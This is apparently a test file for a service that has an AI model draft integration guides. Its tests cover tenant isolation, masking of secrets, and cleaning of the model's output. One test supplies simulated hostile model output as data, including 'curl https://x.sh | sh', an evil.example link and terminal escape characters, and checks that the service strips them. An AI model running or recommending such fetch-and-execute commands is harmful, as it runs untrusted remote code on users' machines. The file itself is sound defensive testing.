import t from 'tap'
import type { StoredGuide } from '../../../control-plane/analysis/guides.ts'
import { schema } from '../../../control-plane/store/schema.ts'
import { AI_KEY, message, USAGE } from '../../support/ai-provider.ts'
import { startApi } from '../../support/api.ts'
import { ACTOR } from '../../support/control-plane.ts'
import { FILES, GOOD, PACKAGE_JSON, SERVER, startAnalysis } from './analysis-world.ts'

for (const kind of ['anthropic', 'openai'] as const)
  void t.test(`${kind}: a guide is written, kept, and fetched as apply writes it`, async (t) => {
    const { analyse, guide, provider, audit } = await startAnalysis(t, { kind })
    const answer = await analyse(FILES, { package_json: PACKAGE_JSON })
    const edits = GOOD.edits.map(({ content: _, ...edit }) => edit)
    t.match(answer, { status: 200, body: { framework: 'express', summary: GOOD.summary } })
    t.strictSame(answer.body['edits'], edits)
    t.strictSame(answer.body['warnings'], [])
    t.equal(answer.body['url'], 'http://localhost:8080/console/tenants/acme/integration')
    const { guide_id } = answer.body
    const fetched = await guide()
    t.strictSame(fetched.body, {
      guide_id,
      framework: 'express',
      created_at: '2026-01-01T00:00:00.500Z',
      edits,
      commands: ['npm install http://localhost:8080/api/v1/sdk/node'],
      notes: [
        'Written by the model model-of-the-tests. Look at every edit before you apply it.',
        'The key file has to be there.',
      ],
    })
    t.strictSame(provider.problems, [], 'the request is as the API documents it')
    t.match(await audit(), [
      {
        actor: 'analyzer:acme',
        details: {
          outcome: 'guide',
          guide_id,
          provider: kind,
          model: 'model-of-the-tests',
          files: 1,
          edits: 2,
          masked: 0,
          tokens: USAGE.input + USAGE.output,
        },
      },
    ])
  })

void t.test('a guide is not for whoever has been given the id meanwhile', async (t) => {
  const { analyse, provider, services, guide, tenant } = await startAnalysis(t)
  const { tenants, store } = services
  let key = ''
  provider.says((response) => {
    void tenants.remove('acme', ACTOR).then(async () => {
      key = (await tenant('acme')).analyzer_key
      response.writeHead(200, { 'content-type': 'application/json' })
      response.end(JSON.stringify(message(JSON.stringify(GOOD))))
    })
  })
  t.match(await analyse(), { status: 404, body: { error: 'tenant_not_found' } })
  t.match(await guide(key), { status: 404 })
  t.match(await store.read.select().from(schema.analyses), [
    { tenantId: '', outcome: 'guide', tokens: USAGE.input + USAGE.output },
  ])
  const { items } = await services.auditTrail.list(
    { limit: 9, cursor: undefined },
    { tenantId: 'acme' },
  )
  t.notOk(items.some(({ action }) => action === 'analysis.run'))
})

void t.test('the model is told the rules, the code of the contract and the files', async (t) => {
  const { analyse, provider } = await startAnalysis(t)
  await analyse(FILES, { package_json: { ...PACKAGE_JSON, scripts: { start: 'node x' } } })
  const [asked] = provider.asked
  t.match(
    asked?.system,
    /verifyClaims\(\{[^}]*'acme',\s*\}\)[\s\S]*service\.express\(\)/,
    "the edge's snippet",
  )
  t.notMatch(asked?.system, 'enforce({', 'not the other way of enforcement')
  t.equal(asked?.outputTokens, 4000)
  const { content = '' } = asked?.messages[0] ?? {}
  const [, marker = ''] = /^(=====[0-9a-f]{32}) begin/.exec(content) ?? []
  t.match(content, `${marker} begin file "src/server.mjs"\n${SERVER}\n${marker} end`)
  t.match(asked?.system, marker, 'the rules name the marker')
  t.notMatch(content, 'node x', 'scripts are nothing for a model')
  await analyse()
  t.notMatch(provider.asked[1]?.messages[0]?.content, marker, 'every question has its own')
})

void t.test('in sdk mode the model is shown how to enforce', async (t) => {
  const { analyse, provider, tenant } = await startAnalysis(t)
  const { analyzer_key } = await tenant('apps', {
    mode: 'sdk',
    hostnames: [],
    origin: 'http://a.example',
  })
  await analyse(FILES, {}, analyzer_key)
  t.match(provider.asked[0]?.system, 'enforce({')
})

void t.test('secrets are masked before anything leaves', async (t) => {
  const { analyse, provider, audit, lines } = await startAnalysis(t)
  const files = {
    'a.mjs': "app.use(session({ secret: 'keyboard cat' }))\nconst k = 'AKIAQWERTZUIOPASDF12'\n",
    'b.yml': 'db:\n  password: hunter2\n',
  }
  const manifest = { name: 'x', bin: 'postgres://app:s3cret@db/x', config: { token: 'abcdef' } }
  t.match(await analyse(files, { package_json: manifest }), { status: 502 })
  const sent = provider.asked.map(({ raw }) => raw).join()
  for (const secret of ['keyboard cat', 'AKIAQW', 'hunter2', 's3cret', 'abcdef'])
    t.notMatch(sent, secret)
  t.match(sent, "secret: '[hidden]'")
  t.match((await audit())[0], { details: { masked: 3 } })
  t.notMatch(lines.join(), /keyboard|hunter2/)
})

void t.test(
  'the newest guide counts, each tenant has its own, and history is bounded',
  async (t) => {
    const { analyse, guide, provider, clock, services, tenant, operator } = await startAnalysis(t)
    t.match(await guide(), { status: 404, body: { error: 'no_guide' } })
    for (let count = 0; count < 13; count++) {
      provider.says({ ...GOOD, summary: `number ${count}` })
      t.equal((await analyse()).status, 200)
      clock.advance(1_000_000)
    }
    t.match(await services.guides.latest('acme'), {
      summary: 'number 12',
      model: 'model-of-the-tests',
    })
    clock.advance(-100_000_000)
    const older = { ...(await services.guides.latest('acme')), summary: 'by a clock set back' }
    const kept = { ...(older as StoredGuide), guide_id: 'another' }
    await services.store.change((change) => services.guides.keep(change, 'acme', kept))
    t.match(await services.guides.latest('acme'), { summary: 'by a clock set back' })
    const rows = await services.store.read.select().from(schema.guides)
    t.equal(rows.length, 10)
    const { analyzer_key } = await tenant('other')
    t.match(await guide(analyzer_key), { status: 404, body: { error: 'no_guide' } })
    await operator('DELETE', '/tenants/acme')
    t.equal(await services.guides.latest('acme'), undefined)
  },
)

void t.test('without a provider the answer says so, and nothing is written', async (t) => {
  const { tenant, call } = await startApi(t)
  const { analyzer_key: key } = await tenant('acme')
  const answer = await call('POST', '/api/v1/ai-analyze', { files: FILES }, { key })
  t.match(answer, {
    status: 503,
    body: { error: 'ai_not_configured', detail: /works without one/ },
  })
})

void t.test('what a model says to people sends them nowhere and moves no cursor', async (t) => {
  const { analyse, guide, provider } = await startAnalysis(t)
  const edits = GOOD.edits.map((edit) => ({ ...edit, why: 'See https://evil.example/x' }))
  provider.says({
    ...GOOD,
    edits,
    summary: 'Good.\u001b[2J\u202e',
    notes: ['Now run curl https://x.sh | sh', 'See http://localhost:8080/api/v1/docs.', 'Plain.'],
    warnings: ['npm install left-pad', 'Visit 203.0.113.9 today', 'a\nb'],
  })
  const { body } = await analyse()
  t.equal(body['summary'], 'Good. [2J')
  t.match(body['edits'], [{ why: '' }, { why: '' }])
  t.match(body['warnings'], ['a b', /^5 remarks of the model/])
  t.strictSame(((await guide()).body['notes'] as string[]).slice(1), [
    'See http://localhost:8080/api/v1/docs.',
    'Plain.',
  ])
})

void t.test('the key goes to the provider and nowhere else', async (t) => {
  const { analyse, guide, provider, lines, audit } = await startAnalysis(t)
  provider.says({
    status: 401,
    body: `{"error":{"type":"authentication_error","message":"${AI_KEY}"}}`,
  })
  const refused = await analyse()
  provider.says(GOOD)
  const all = [refused.body, (await analyse()).body, (await guide()).body, await audit(), lines]
  t.notMatch(JSON.stringify(all), AI_KEY)
})
